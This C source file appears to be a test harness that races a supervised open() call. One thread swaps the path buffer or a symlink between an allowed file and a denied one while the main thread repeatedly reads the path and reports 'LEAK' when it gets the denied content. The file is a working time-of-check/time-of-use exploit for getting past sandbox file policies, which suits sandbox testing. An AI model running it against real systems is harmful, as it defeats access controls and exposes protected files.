/* Race a supervised open: one thread flips the path string between an allowed file and a denied
 * one (or swaps a symlink), the main thread opens and reads it again and again.
 * usage: race_open MODE ALLOWED DENIED ROUNDS   (MODE: mem | link)
 * prints "LEAK <content>" whenever it read the denied file's content, then "DONE n_ok n_fail". */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char path[4096];
static const char *allowed, *denied;
static volatile int stop;
static int mode_link;

static void *flipper(void *arg) {
    (void)arg;
    size_t la = strlen(allowed), ld = strlen(denied);
    unsigned long i = 0;
    while (!stop) {
        if (mode_link) {
            unlink("lnk.tmp");
            symlink((i++ & 1) ? denied : allowed, "lnk.tmp");
            rename("lnk.tmp", "lnk");
        } else {
            if (i++ & 1) memcpy(path, denied, ld + 1); else memcpy(path, allowed, la + 1);
        }
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    mode_link = strcmp(argv[1], "link") == 0;
    allowed = argv[2]; denied = argv[3];
    long rounds = atol(argv[4]);
    if (mode_link) { symlink(allowed, "lnk"); strcpy(path, "lnk"); }
    else strcpy(path, allowed);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    long ok = 0, fail = 0;
    char buf[256];
    for (long r = 0; r < rounds; r++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) { fail++; continue; }
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n <= 0) { fail++; continue; }
        buf[n] = 0;
        ok++;
        if (strstr(buf, "SECRET")) { printf("LEAK %s\n", buf); fflush(stdout); }
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("DONE %ld %ld\n", ok, fail);
    return 0;
}
